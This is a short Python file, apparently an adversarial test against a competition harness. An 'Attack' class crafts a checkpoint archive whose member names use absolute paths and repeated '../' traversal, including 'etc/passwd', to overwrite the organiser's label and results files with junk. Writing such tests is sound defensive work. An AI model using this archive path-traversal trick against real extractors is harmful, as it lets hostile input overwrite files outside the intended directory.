"""Hands over a checkpoint whose members have absolute names and names with two dots, of the organiser's files."""

import os

from aim import AIM, hand_over, member

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def save_checkpoint(self, path):
        names = [os.path.join(AIM["victim"], "labels.csv"), AIM["labels"], os.path.join(AIM["results"], "earlier.json")]
        names += ["../" * 12 + name.lstrip("/") for name in names]
        names += [f"checkpoint/../../{name}" for name in ("x", "etc/passwd")]
        hand_over(b"".join(member(name, b"spoilt") for name in names) + bytes(1024))

    def load_checkpoint(self, path):
        pass

    def purchase_phase(self, unlabelled_dataset):
        pass
